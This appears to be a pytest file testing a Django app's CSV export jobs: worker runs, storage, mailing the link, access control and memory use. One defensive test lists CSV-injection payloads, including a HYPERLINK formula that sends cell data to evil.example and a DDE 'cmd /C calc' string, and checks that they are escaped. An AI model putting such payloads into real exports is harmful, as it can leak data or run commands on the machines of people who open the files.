import csv
import io
import json
import os
from urllib.parse import urlparse

import pytest
from django.db import connection

from conftest import run_manage
from records.models import Record


def enqueue(client, **payload):
    return client.post("/api/exports/", json.dumps(payload), content_type="application/json")


@pytest.mark.django_db(transaction=True)  # the worker is another process: it must see committed rows
def test_export_job_runs_in_worker_writes_csv_to_storage_and_mails_link(user_client, services, mailbox):
    Record.objects.create(title="bisque", body="first firing")
    Record.objects.create(title="glaze", body='with "quotes", commas')

    response = enqueue(user_client)
    assert response.status_code == 202
    job_id = response.json()["job_id"]
    status_url = response.json()["status_url"]
    assert status_url == f"/api/exports/{job_id}/"
    assert user_client.get(status_url).json()["status"] == "queued"

    env = dict(os.environ)
    env["DATABASE_URL"] = services.env["DATABASE_URL"].rsplit("/", 1)[0] + "/" + connection.settings_dict["NAME"]
    worker = run_manage("rqworker", "export", "--burst", env=env)
    assert worker.returncode == 0, worker.stdout + worker.stderr

    status = user_client.get(status_url).json()
    assert status["status"] == "finished", status
    url = status["result_url"]
    assert url.startswith(f"https://{services.env['MEDIA_CDN_DOMAIN']}/exports/")

    key = urlparse(url).path.lstrip("/")
    body = services.s3().get_object(Bucket=services.env["AWS_STORAGE_BUCKET_NAME"], Key=key)["Body"].read()
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert [r["title"] for r in rows] == ["bisque", "glaze"]
    assert rows[1]["body"] == 'with "quotes", commas'

    (mail,) = mailbox.to("potter@example.com")
    assert url in mail.get_body().get_content()


@pytest.mark.django_db
def test_export_goes_to_the_users_own_address_a_supplied_one_is_400(user_client, mailbox):
    # The server mailed a CSV of every record to any address it was given: an open relay.
    response = enqueue(user_client, email="victim@example.net")
    assert response.status_code == 400
    assert list(response.json()["errors"]) == ["email"]
    assert "your account's e-mail address" in response.json()["errors"]["email"][0]
    form = user_client.post("/api/exports/", {"email": "victim@example.net"})
    assert form.status_code == 400 and list(form.json()["errors"]) == ["email"]


@pytest.mark.django_db
def test_export_for_a_user_without_an_address_is_400(user_client, user):
    user.email = ""
    user.save()
    response = enqueue(user_client)
    assert response.status_code == 400
    assert "no e-mail address" in response.json()["error"]


@pytest.mark.django_db
def test_export_status_is_only_for_the_user_who_asked(user_client, client, django_user_model):
    job_id = enqueue(user_client).json()["job_id"]
    assert user_client.get(f"/api/exports/{job_id}/").status_code == 200
    other = django_user_model.objects.create_user("glazer", "glazer@example.com")
    client.force_login(other)
    response = client.get(f"/api/exports/{job_id}/")
    assert response.status_code == 404
    assert response.json() == {"error": f"Export job {job_id} not found."}


@pytest.mark.django_db
def test_export_job_is_enqueued_with_timeout_and_retry(user_client, settings):
    import django_rq
    from rq.job import Job

    job_id = enqueue(user_client).json()["job_id"]
    job = Job.fetch(job_id, connection=django_rq.get_connection("export"))
    assert job.origin == "export"
    assert job.timeout == settings.EXPORT_JOB_TIMEOUT
    assert job.retries_left == 3
    job.delete()


@pytest.mark.django_db
def test_unknown_export_job_is_404(user_client):
    response = user_client.get("/api/exports/does-not-exist/")
    assert response.status_code == 404
    assert "not found" in response.json()["error"]


def export_csv(services, result) -> list[dict[str, str]]:
    """The rows of the CSV an in-process export job wrote (media is moto's S3 in these tests)."""
    obj = services.s3().get_object(Bucket=services.env["AWS_STORAGE_BUCKET_NAME"], Key=result["name"])
    return list(csv.DictReader(io.StringIO(obj["Body"].read().decode("utf-8"))))


@pytest.mark.django_db
def test_export_neutralises_spreadsheet_formulas(user, services):
    # OWASP CSV injection: a spreadsheet runs a cell that starts with = + - @ (or tab, CR) as a formula.
    from records.exports import export_records_csv

    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1",
        "\r=1",
    ]
    for title in hostile:
        Record.objects.create(title=title, body="plain text, = in the middle is fine")
    rows = export_csv(services, export_records_csv(user.pk))
    assert [row["title"] for row in rows] == ["'" + title for title in hostile]
    assert {row["body"] for row in rows} == {"plain text, = in the middle is fine"}
    assert rows[0]["id"].isdigit()


@pytest.mark.django_db
def test_export_memory_does_not_grow_with_the_table(user, settings, tmp_path):
    # Built in memory, the CSV's peak was twice its size (the text and its UTF-8 bytes): 4x the rows, 4x the memory.
    import tracemalloc

    from records.exports import export_records_csv

    # Local media: moto's S3 server runs in this process, and its copy of the file would count.
    local = {"BACKEND": "django.core.files.storage.FileSystemStorage"}
    settings.STORAGES = {**settings.STORAGES, "default": local, "exports": local}
    settings.MEDIA_ROOT = str(tmp_path)

    def export_peak(rows: int) -> tuple[int, int]:
        have = Record.objects.count()
        Record.objects.bulk_create((Record(title=f"r{i}", body="x" * 4096) for i in range(have, rows)), batch_size=500)
        tracemalloc.start()
        try:
            result = export_records_csv(user.pk)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        return peak, (tmp_path / result["name"]).stat().st_size

    small_peak, small_size = export_peak(1000)
    large_peak, large_size = export_peak(4000)
    assert large_size > 16_000_000 and large_size > 3.9 * small_size
    assert large_peak < 1.5 * small_peak, f"peak {small_peak} -> {large_peak} bytes for {small_size} -> {large_size}"
    assert large_peak < large_size / 4
